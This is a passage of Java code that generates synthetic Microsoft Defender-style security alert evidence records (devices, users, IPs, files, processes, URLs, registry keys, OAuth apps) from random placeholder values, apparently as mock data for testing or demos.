        detailedRoles.forEach(dr::add);
        e.set("detailedRoles", dr);
        ArrayNode tags = JSON.arrayNode();
        if (random.nextInt(6) == 0) {
            tags.add("Test Machine");
        }
        e.set("tags", tags);
        return e;
    }

    private ObjectNode deviceEvidence(Scene s, Instant created) {
        ObjectNode e = base("deviceEvidence", created, List.of("compromised"), List.of("Main device"));
        e.put("firstSeenDateTime", format(created.minus(Duration.ofDays(30 + random.nextInt(700)))));
        e.put("mdeDeviceId", s.mdeDeviceId());
        e.put("azureAdDeviceId", uuid());
        e.put("deviceDnsName", s.hostName() + "." + DOMAIN);
        e.put("hostName", s.hostName());
        e.put("ntDomain", NT_DOMAIN);
        e.put("dnsDomain", DOMAIN);
        e.put("osPlatform", s.os()[0]);
        e.put("osBuild", Long.parseLong(s.os()[1]));
        e.put("version", s.os()[2]);
        e.put("healthStatus", random.nextInt(10) == 0 ? "inactive" : "active");
        e.put("riskScore", pick(List.of("none", "informational", "low", "medium", "high")));
        e.put("rbacGroupId", 70 + random.nextInt(10));
        e.put("rbacGroupName", pick(RBAC_GROUPS));
        e.put("onboardingStatus", "onboarded");
        e.put("defenderAvStatus", pick(List.of("updated", "updated", "notUpdated", "unknown")));
        e.set("ipInterfaces", JSON.arrayNode().add(s.privateIp()).add("fe80::" + hex(4) + ":" + hex(4)));
        e.put("lastIpAddress", s.privateIp());
        e.put("lastExternalIpAddress", s.publicIp());
        ArrayNode users = JSON.arrayNode();
        users.addObject().put("accountName", s.account()).put("domainName", NT_DOMAIN);
        e.set("loggedOnUsers", users);
        e.set("resourceAccessEvents", JSON.arrayNode());
        if (s.hostName().startsWith("vm")) {
            String sub = uuid();
            e.putObject("vmMetadata")
                    .put("vmId", uuid())
                    .put("cloudProvider", "azure")
                    .put("resourceId", "/subscriptions/" + sub + "/resourceGroups/rg-prod/providers/Microsoft.Compute/virtualMachines/" + s.hostName())
                    .put("subscriptionId", sub);
        } else {
            e.putNull("vmMetadata");
        }
        return e;
    }

    private ObjectNode userAccount(Scene s) {
        ObjectNode u = JSON.objectNode();
        u.put("accountName", s.account());
        u.put("domainName", NT_DOMAIN);
        u.put("userSid", s.userSid());
        u.put("azureAdUserId", s.aadUserId());
        u.put("userPrincipalName", s.upn());
        u.put("displayName", s.displayName());
        return u;
    }

    private ObjectNode userEvidence(Scene s, Instant created) {
        ObjectNode e = base("userEvidence", created, List.of("compromised"), List.of("Impacted user"));
        e.putNull("stream");
        e.set("userAccount", userAccount(s));
        return e;
    }

    private ObjectNode ipEvidence(Scene s, Instant created) {
        // Half the IPs repeat the scene's attacker address (so evidence correlates); the rest are other addresses,
        // e.g. the second leg of an impossible-travel pair.
        boolean sceneIp = random.nextBoolean();
        String[] loc = sceneIp ? s.location() : pick(LOCATIONS);
        ObjectNode e = base("ipEvidence", created, List.of("attacker"), List.of("Source IP"));
        e.put("ipAddress", sceneIp ? s.publicIp() : publicIp());
        e.put("countryLetterCode", loc[0]);
        e.putObject("location")
                .put("city", loc[3])
                .put("countryName", loc[1])
                .put("latitude", Double.parseDouble(loc[4]))
                .put("longitude", Double.parseDouble(loc[5]))
                .put("state", loc[2]);
        e.putNull("stream");
        return e;
    }

    private ObjectNode fileDetails(String[] file, Scene s) {
        boolean known = file[2] != null;
        ObjectNode f = JSON.objectNode();
        f.put("sha1", hex(40));
        f.put("sha256", hex(64));
        f.put("fileName", file[0]);
        f.put("filePath", file[1].replace("%USER%", s.account()));
        long size = Long.parseLong(file[5]);
        f.put("fileSize", known ? size : size + random.nextInt(4096));
        f.put("filePublisher", file[2]);
        f.put("signer", file[3]);
        f.put("issuer", file[4]);
        return f;
    }

    private ObjectNode fileEvidence(Scene s, Instant created) {
        ObjectNode e = base("fileEvidence", created, List.of("suspicious"), List.of("Referred in command line"));
        e.put("detectionStatus", pick(List.of("detected", "detected", "blocked", "prevented")));
        e.put("mdeDeviceId", s.mdeDeviceId());
        e.set("fileDetails", fileDetails(pick(FILES), s));
        return e;
    }

    private ObjectNode processEvidence(Scene s, Instant created) {
        ObjectNode e = base("processEvidence", created, List.of(), List.of());
        Instant start = created.minus(Duration.ofSeconds(30 + random.nextInt(3600)));
        e.put("processId", 1000 + random.nextInt(20000));
        e.put("parentProcessId", 400 + random.nextInt(8000));
        e.put("processCommandLine", pick(COMMAND_LINES).replace("%USER%", s.account()).replace("%HOST%", pick(URL_HOSTS)));
        e.put("processCreationDateTime", format(start));
        e.put("parentProcessCreationDateTime", format(start.minus(Duration.ofSeconds(random.nextInt(86_400)))));
        e.put("detectionStatus", "detected");
        e.put("mdeDeviceId", s.mdeDeviceId());
        e.set("imageFile", fileDetails(FILES[random.nextInt(2)], s));
        String parent = pick(PARENT_IMAGES);
        e.putObject("parentProcessImageFile")
                .putNull("sha1").putNull("sha256")
                .put("fileName", parent)
                .put("filePath", parent.equals("WINWORD.EXE") ? "C:\\Program Files\\Microsoft Office\\root\\Office16" : "C:\\Windows\\System32")
                .put("fileSize", 100_000 + random.nextInt(900_000))
                .put("filePublisher", "Microsoft Corporation")
                .putNull("signer").putNull("issuer");
        e.set("userAccount", userAccount(s));
        return e;
    }

    private ObjectNode urlEvidence(Instant created) {
        ObjectNode e = base("urlEvidence", created, List.of("commandAndControl"), List.of("Clicked URL"));
        e.put("url", "https://" + pick(URL_HOSTS) + "/" + hex(8) + "/index.html?u=" + hex(12));
        return e;
    }

    private ObjectNode mailboxEvidence(Scene s, Instant created) {
        ObjectNode e = base("mailboxEvidence", created, List.of("destination"), List.of("Recipient"));
        e.put("displayName", s.displayName());
        e.put("primaryAddress", s.upn());
        e.put("upn", s.upn());
        e.set("userAccount", userAccount(s));
        return e;
    }

    private ObjectNode registryKeyEvidence(Instant created) {
        String[] key = pick(REGISTRY_KEYS);
        ObjectNode e = base("registryKeyEvidence", created, List.of("edited"), List.of());
        e.put("registryHive", key[0]);
        e.put("registryKey", key[1]);
        return e;
    }

    private ObjectNode oauthApplicationEvidence(Instant created) {
        String[] app = pick(OAUTH_APPS);
        ObjectNode e = base("oauthApplicationEvidence", created, List.of("contextual"), List.of("OAuth application"));
        e.put("appId", uuid());
        e.put("displayName", app[0]);
        e.put("objectId", uuid());
        e.put("publisher", app[1]);
        return e;
    }

    // ------------------------------------------------------------------ helpers

    private Scene newScene() {
        String first = pick(FIRST_NAMES);
        String last = pick(LAST_NAMES);
        String sid = "S-1-5-21-" + (1_000_000_000L + random.nextInt(1_000_000_000)) + "-"
                + (1_000_000_000L + random.nextInt(1_000_000_000)) + "-"
                + (1_000_000_000L + random.nextInt(1_000_000_000)) + "-" + (1100 + random.nextInt(9000));
        String host = pick(HOST_PREFIXES) + "-" + hex(6);
        String privateIp = "10." + random.nextInt(256) + "." + random.nextInt(256) + "." + (2 + random.nextInt(250));
        return new Scene(first, last, sid, uuid(), host, hex(40), pick(OS_PLATFORMS), pick(LOCATIONS), publicIp(), privateIp);
    }

    private String publicIp() {
        // Skip 0, 10, 127 and the multicast/reserved ranges: the first octet alone is enough for realism here.
        int first;
        do {
            first = 11 + random.nextInt(212);
        } while (first == 127 || first == 172 || first == 192 || first == 169 || first == 100);
        return first + "." + random.nextInt(256) + "." + random.nextInt(256) + "." + (1 + random.nextInt(254));
    }

    private String uuid() {
        long msb = (random.nextLong() & ~0xF000L) | 0x4000L; // version 4
        long lsb = (random.nextLong() & 0x3FFFFFFFFFFFFFFFL) | 0x8000000000000000L; // IETF variant
        return new UUID(msb, lsb).toString();
    }

    private String hex(int length) {
        StringBuilder sb = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            sb.append(Character.forDigit(random.nextInt(16), 16));
        }
        return sb.toString();
    }

    private static long ticks(Instant instant) {
        return EPOCH_TICKS + instant.getEpochSecond() * 10_000_000L + instant.getNano() / 100;
    }

    private static String format(Instant instant) {
        return GRAPH_DATE_TIME.format(instant);
    }

    private <T> T pick(List<T> list) {
        return list.get(random.nextInt(list.size()));
    }

    private <T> T pick(T[] array) {
        return array[random.nextInt(array.length)];
    }
}
